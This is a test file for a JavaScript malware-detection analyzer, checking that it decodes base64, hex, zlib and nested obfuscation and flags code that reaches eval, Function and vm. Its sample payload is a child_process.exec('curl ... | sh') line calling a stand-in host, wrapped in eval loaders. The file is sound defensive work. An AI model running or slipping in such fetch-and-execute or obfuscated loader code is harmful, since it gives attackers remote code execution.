import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { analyzeJavaScript } from '../../../src/detectors/javascript/analyze.js';

const facts = (src: string, maxDecodeDepth?: number) => analyzeJavaScript('t.js', src, maxDecodeDepth === undefined ? {} : { maxDecodeDepth });
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const hex = (s: string): string => Buffer.from(s).toString('hex');
const CODE = `require('child_process').exec('curl https://example.invalid/x | sh')`;

describe('analyzeJavaScript: decoded payloads', () => {
  it('decodes base64 handed to eval and analyses it as code', () => {
    const f = facts(`eval(Buffer.from('${b64(CODE)}', 'base64').toString('utf8'))`);
    expect(f.decoded).toHaveLength(1);
    const d = f.decoded[0]!;
    expect(d).toMatchObject({ line: 1, scope: '<module>', steps: ['base64'], text: CODE });
    expect(d.facts?.calls.map((c) => c.callee)).toEqual(['child_process.exec']);
    expect(d.facts?.imports.map((i) => i.module)).toEqual(['child_process']);
  });

  it('decodes atob, hex, char codes, reversal and URI escapes', () => {
    const steps = (src: string): string[][] => facts(src).decoded.map((d) => d.steps);
    expect(steps(`const s = atob('${b64('hello payload')}')`)).toEqual([['base64']]);
    expect(steps(`const s = Buffer.from('${hex('hello payload')}', 'hex').toString()`)).toEqual([['hex']]);
    expect(steps(`const s = String.fromCharCode(104, 101, 108, 108, 111)`)).toEqual([['fromCharCode']]);
    expect(steps(`const s = 'daolyap olleh'.split('').reverse().join('')`)).toEqual([['reverse']]);
    expect(steps(`const s = decodeURIComponent('%68%65%6c%6c%6f')`)).toEqual([['uri']]);
  });

  it('always records code reaching eval, Function and vm, even without decoding', () => {
    const f = facts(`eval('require("os").hostname()');\nnew Function('a', 'return process.env');\nrequire('vm').runInThisContext('1 + ' + '1');`);
    expect(f.decoded.map((d) => [d.line, d.steps, d.text])).toEqual([
      [1, [], 'require("os").hostname()'],
      [2, [], 'return process.env'],
      [3, [], '1 + 1'],
    ]);
    expect(f.decoded[0]?.facts?.calls[0]?.callee).toBe('os.hostname');
    expect(f.decoded[1]?.facts?.reads.map((r) => r.name)).toEqual(['process.env']);
  });

  it('treats string timers, vm.Script and Module._compile as code sinks', () => {
    const f = facts(`setTimeout('process.exit(1)', 5);\nconst vm = require('vm'); new vm.Script('require("os")');\nm._compile('fetch(1)', 'x.js');\nsetTimeout(() => 1, 5);`);
    expect(f.decoded.map((d) => [d.line, d.text])).toEqual([
      [1, 'process.exit(1)'],
      [2, 'require("os")'],
      [3, 'fetch(1)'],
    ]);
    expect(f.decoded.every((d) => d.facts !== undefined)).toBe(true);
  });

  it('records a payload where it is decoded and again where it is evaluated, analysing it once', () => {
    const f = facts(`const p = atob('${b64(CODE)}');\nconst run = eval;\neval(p);\neval(p);`);
    expect(f.decoded.map((d) => [d.line, d.steps])).toEqual([
      [1, ['base64']],
      [3, ['base64']],
      [4, ['base64']],
    ]);
    expect(f.decoded[1]?.facts?.calls[0]?.callee).toBe('child_process.exec');
    expect(f.decoded[2]?.facts).toBe(f.decoded[0]?.facts);
  });

  it('puts the payload of a hex literal on the line of the sink that runs it', () => {
    const f = facts(`const cfg = '${hex(CODE)}';\nrequire('vm').runInThisContext(Buffer.from(cfg, 'hex').toString('utf8'));`);
    expect(f.decoded.map((d) => [d.line, d.steps])).toEqual([
      [1, ['hex']],
      [2, ['hex']],
    ]);
    expect(f.decoded[1]?.facts?.calls[0]?.callee).toBe('child_process.exec');
  });

  it('finds long base64 and hex literals of text, with nested layers and zlib', () => {
    const layered = b64(b64(CODE));
    const f = facts(`const a = '${b64(CODE)}';\nconst b = '${hex(CODE)}';\nconst c = '${layered}';`);
    expect(f.decoded.map((d) => [d.line, d.steps])).toEqual([
      [1, ['base64']],
      [2, ['hex']],
      [3, ['base64', 'base64']],
    ]);
    expect(f.decoded[2]?.text).toBe(CODE);
    const zipped = deflateSync(CODE).toString('base64');
    expect(facts(`x = '${zipped}'`).decoded[0]?.steps).toEqual(['base64', 'zlib']);
  });

  it('ignores base64 and hex of binary data, and short decodings', () => {
    const binary = Buffer.from(Array.from({ length: 60 }, (_, i) => (i * 37) % 256)).toString('base64');
    expect(facts(`const a = '${binary}'; const h = '${'ff00'.repeat(20)}'; const c = String.fromCharCode(255);`).decoded).toEqual([]);
    expect(facts(`const sri = 'sha512-${binary}'`).decoded).toEqual([]);
  });

  it('analyses nested payloads to maxDecodeDepth', () => {
    const inner = `eval(atob('${b64(CODE)}'))`;
    const outer = `eval(atob('${b64(inner)}'))`;
    const deep = facts(outer);
    expect(deep.decoded[0]?.facts?.decoded[0]?.facts?.calls[0]?.callee).toBe('child_process.exec');
    const shallow = facts(outer, 1);
    expect(shallow.decoded[0]?.facts?.calls.map((c) => c.callee)).toEqual(['global.atob', 'global.eval']);
    expect(shallow.decoded[0]?.facts?.decoded[0]?.facts).toBeUndefined();
    expect(facts(outer, 0).decoded[0]?.facts).toBeUndefined();
  });

  it('does not attach facts to text that is not JavaScript', () => {
    const f = facts(`const s = atob('${b64('just some words, (not) code = really')}')`);
    expect(f.decoded[0]?.facts).toBeUndefined();
  });

  it('records decoded text as a string and caps it at 4,000 characters', () => {
    const big = `// ${'x'.repeat(6000)}\nrequire('os')`;
    const f = facts(`eval(atob('${b64(big)}'))`);
    expect(f.decoded[0]?.text.length).toBe(4000);
    expect(f.decoded[0]?.facts?.imports[0]?.module).toBe('os');
    expect(f.strings.some((s) => s.value.startsWith('// xxx'))).toBe(true);
  });

  it('bounds the bytes decoded per file', () => {
    const chunk = b64(`console.log("${'y'.repeat(3000)}")`);
    const src = Array.from({ length: 400 }, (_, i) => `const v${i} = '${chunk}${i.toString().padStart(4, '0')}';`).join('\n');
    const f = facts(src);
    expect(f.decoded.length).toBeGreaterThan(0);
    expect(f.decoded.length).toBeLessThan(400);
  });
});
